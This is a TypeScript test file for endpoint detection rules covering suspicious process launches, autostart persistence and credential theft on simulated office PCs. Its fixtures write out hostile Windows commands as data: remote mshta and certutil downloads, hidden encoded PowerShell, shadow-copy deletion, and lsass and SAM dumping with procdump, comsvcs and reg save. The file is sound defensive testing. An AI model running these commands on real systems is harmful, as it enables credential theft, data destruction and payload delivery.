import assert from 'node:assert/strict'
import { after, before, beforeEach, test } from 'node:test'
import type { Detector } from '../detector.ts'
import { type Organisation, organisation } from '../test-organisation.ts'
import { autostartEntry } from './autostart-entry.ts'
import { credentialTheft } from './credential-theft.ts'
import { suspiciousExecution } from './suspicious-execution.ts'

let office: Organisation
before(async () => {
  office = await organisation()
})
after(async () => await office.close())
beforeEach(async () => {
  await office.clear()
  // an ordinary week on twenty computers: what tells old from new, and few from many
  for (let i = 0; i < 20; i++) await run(`PC-${i}`, WORD, '"winword.exe" /n', EXPLORER, [10, 3000, 9000])
})

const SYSTEM = 'C:\\Windows\\System32\\'
const EXPLORER = 'C:\\Windows\\explorer.exe'
const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\'
const WORD = `${OFFICE}WINWORD.EXE`
const POWERSHELL = `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`
const TEMP = 'C:\\Users\\tanaka\\AppData\\Local\\Temp\\'
const BASE64 = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'

const run = (host: string, image: string, command: string, parent: string, minutes = [5000]) =>
  office.endpoint(host, minutes, {
    process_executable: image,
    process_command_line: command,
    process_parent_executable: parent,
  })
const told = async (detector: Detector) =>
  (await office.run(detector)).map((sign) => [sign.hosts[0], sign.severity, sign.metrics.behaviours])

test('what follows an opened attachment is strong', async () => {
  await run('PC-1', `${SYSTEM}mshta.exe`, '"mshta.exe" https://cdn.example.net/a.hta', EXPLORER)
  await run('PC-2', `${TEMP}Temp1_請求書.zip\\請求書.pdf.exe`, '', EXPLORER)
  await run('PC-3', POWERSHELL, `power^shell -nop -w hidden -enc ${BASE64}`, WORD)
  await run(
    'PC-4',
    `${SYSTEM}wscript.exe`,
    `wscript.exe "C:\\Users\\sato\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\A1B2C3\\見積.js"`,
    `${OFFICE}OUTLOOK.EXE`,
  )
  await run('PC-5', 'C:\\ProgramData\\svchost.exe', '', 'C:\\Windows\\System32\\rundll32.exe')
  await run('PC-6', `${SYSTEM}vssadmin.exe`, 'vssadmin.exe delete shadows /all /quiet', `${SYSTEM}cmd.exe`)
  const signs = await told(suspiciousExecution)
  assert.deepEqual(signs.map(([host, severity]) => [host, severity]).sort(), [
    ['PC-1', 'high'],
    ['PC-2', 'high'],
    ['PC-3', 'high'],
    ['PC-4', 'high'],
    ['PC-5', 'high'],
    ['PC-6', 'high'],
  ])
})

test('two plain things within a day on one computer make it strong; one alone is medium', async () => {
  await run('PC-1', `${SYSTEM}wscript.exe`, 'wscript.exe C:\\Users\\tanaka\\Downloads\\資料.js', EXPLORER, [5000])
  await run('PC-1', `${SYSTEM}rundll32.exe`, `rundll32.exe ${TEMP}a.dat,Start`, `${SYSTEM}wscript.exe`, [5003])
  await run(
    'PC-2',
    `${SYSTEM}certutil.exe`,
    `certutil -urlcache -split -f http://203.0.113.9/a.txt C:\\Users\\Public\\a.txt`,
    `${SYSTEM}cmd.exe`,
  )
  assert.deepEqual(await told(suspiciousExecution), [
    ['PC-1', 'high', 'script-opened, library-from-user-folder'],
    ['PC-2', 'medium', 'tool-fetches'],
  ])
})

test('everyday programs: macros, logon scripts, management software, developers, installers, links in mails', async () => {
  // an accounting package's macro calls a command, on three computers for weeks
  for (const host of ['PC-1', 'PC-2', 'PC-3'])
    await run(
      host,
      `${SYSTEM}cmd.exe`,
      'cmd.exe /c copy \\\\FS01\\keiri\\a.csv C:\\Users\\tanaka\\Documents\\',
      `${OFFICE}EXCEL.EXE`,
      [20, 1500, 9000],
    )
  // management software runs one encoded command on all
  for (let i = 0; i < 12; i++)
    await run(
      `PC-${i}`,
      POWERSHELL,
      `powershell.exe -NonInteractive -WindowStyle Hidden -EncodedCommand ${BASE64}`,
      'C:\\Program Files\\Sky Product\\SKYSEA Client View\\Tools\\agent.exe',
      [4000 + i],
    )
  for (let i = 0; i < 20; i++)
    await run(
      `PC-${i}`,
      `${SYSTEM}wscript.exe`,
      'wscript.exe \\\\DC01\\NETLOGON\\logon.vbs',
      `${SYSTEM}userinit.exe`,
      [5, 1445],
    )
  await run(
    'PC-5',
    POWERSHELL,
    "powershell -c iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
    `${SYSTEM}cmd.exe`,
  )
  await run(
    'PC-6',
    'C:\\Users\\sato\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe',
    'Zoom.exe --url=zoommtg://',
    `${OFFICE}OUTLOOK.EXE`,
  )
  await run(
    'PC-6',
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    'chrome.exe --single-argument https://www.example.co.jp/',
    `${OFFICE}OUTLOOK.EXE`,
  )
  await run('PC-7', `${TEMP}Temp1_driver.zip\\setup.exe`, '', EXPLORER)
  await run(
    'PC-7',
    `${SYSTEM}rundll32.exe`,
    'rundll32.exe C:\\Windows\\Installer\\MSI1.tmp,zzzzInvokeManagedCustomActionOutOfProc',
    `${SYSTEM}msiexec.exe`,
  )
  await run('PC-8', `${SYSTEM}certutil.exe`, 'certutil -urlcache * delete', `${SYSTEM}cmd.exe`)
  await run('PC-8', 'C:\\Users\\sato\\Desktop\\議事録.ver2.docx.lnk', '', EXPLORER)
  await run('PC-9', `${SYSTEM}svchost.exe`, 'svchost.exe -k netsvcs', `${SYSTEM}services.exe`)
  assert.deepEqual(
    (await office.run(suspiciousExecution))
      .filter((sign) => sign.severity !== 'informational')
      .map((sign) => sign.metrics),
    [],
  )
})

test('what is set to start again: by a document, out of a temporary folder, by a hidden command; updaters are none', async () => {
  const startup = 'C:\\Users\\tanaka\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\'
  const runKey = 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\'
  const registry = (host: string, key: string, value: string, minutes = [5000]) =>
    office.endpoint(host, minutes, {
      event_action: 'registry-set',
      process_executable: 'C:\\Windows\\regedit.exe',
      file_path: `${runKey}${key}`,
      event_details: value,
    })
  await office.endpoint('PC-1', [5000], {
    event_action: 'file-create',
    process_executable: WORD,
    file_path: `${startup}update.lnk`,
  })
  await registry('PC-2', 'Updater', 'C:\\Users\\Public\\upd.exe')
  await registry('PC-3', 'Sync', `powershell.exe -w hidden -enc ${BASE64}`)
  await office.endpoint('PC-4', [5000], {
    event_action: 'task-created',
    file_path: '\\Check',
    event_details: '<Task><Exec><Command>C:\\Users\\tanaka\\AppData\\Roaming\\chk\\c.exe</Command></Exec></Task>',
  })
  // the harmless ones
  await office.endpoint('PC-8', [5000], {
    event_action: 'task-changed',
    file_path: '\\Microsoft\\Windows\\UpdateOrchestrator\\Backup Scan',
    event_details:
      '&lt;Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"&gt;&lt;Exec&gt;&lt;Command&gt;%systemroot%\\system32\\usoclient.exe&lt;/Command&gt;&lt;/Exec&gt;&lt;/Task&gt;',
  })
  await registry('PC-5', 'com.squirrel.slack.slack', '"C:\\Users\\sato\\AppData\\Local\\slack\\slack.exe" --startup')
  await registry('PC-5', 'OneDrive', '"C:\\Users\\sato\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background')
  await registry('PC-6', 'SecurityHealth', '%windir%\\system32\\SecurityHealthSystray.exe')
  await office.endpoint('PC-6', [5000], {
    event_action: 'file-create',
    process_executable: EXPLORER,
    file_path: `${startup}Outlook.lnk`,
  })
  await office.endpoint('PC-7', [5000], {
    event_action: 'task-created',
    file_path: '\\OneDrive Standalone Update Task',
    event_details:
      '<Task><Exec><Command>%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe</Command></Exec></Task>',
  })
  assert.deepEqual(await told(autostartEntry), [
    ['PC-1', 'high', 'startup-by-document'],
    ['PC-2', 'medium', 'run-key-passing'],
    ['PC-3', 'high', 'run-key-script'],
    ['PC-4', 'medium', 'task-user-folder'],
  ])
})

test('credentials: dumps of lsass, hives and the directory, by their commands and files; other dumps and backups are none', async () => {
  await run(
    'PC-1',
    `${TEMP}procdump64.exe`,
    'procdump64.exe -accepteula -ma lsass.exe c:\\windows\\temp\\l.dmp',
    `${SYSTEM}cmd.exe`,
  )
  await run(
    'PC-2',
    `${SYSTEM}rundll32.exe`,
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\a.bin full',
    `${SYSTEM}cmd.exe`,
  )
  await run('PC-3', `${SYSTEM}reg.exe`, 'reg save HKLM\\SAM C:\\Windows\\Temp\\s.hiv', `${SYSTEM}cmd.exe`)
  await office.endpoint('PC-4', [5000], {
    event_action: 'process-access',
    process_executable: 'C:\\Users\\tanaka\\Downloads\\m.exe',
    file_path: 'C:\\Windows\\system32\\lsass.exe',
    event_details: '0x1010',
  })
  await office.endpoint('PC-5', [5000], {
    event_action: 'process-access',
    process_executable: 'C:\\Program Files\\Trend Micro\\AMSP\\coreServiceShell.exe',
    file_path: 'C:\\Windows\\system32\\lsass.exe',
    event_details: '0x1410',
  })
  await run('PC-6', 'C:\\tools\\procdump64.exe', 'procdump64.exe -ma gyomu.exe c:\\dump', `${SYSTEM}cmd.exe`)
  await run('PC-6', `${SYSTEM}reg.exe`, 'reg export HKLM\\SOFTWARE\\Gyomu c:\\backup\\g.reg', `${SYSTEM}cmd.exe`)
  await office.endpoint('PC-7', [5000], {
    event_action: 'file-create',
    process_executable: `${SYSTEM}WerFault.exe`,
    file_path: 'C:\\Windows\\System32\\config\\systemprofile\\AppData\\Local\\CrashDumps\\lsass.exe.640.dmp',
  })
  assert.deepEqual(
    (await told(credentialTheft)).map(([host, severity]) => [host, severity]),
    ['PC-1', 'PC-2', 'PC-3', 'PC-4'].map((host) => [host, 'high']),
  )
})
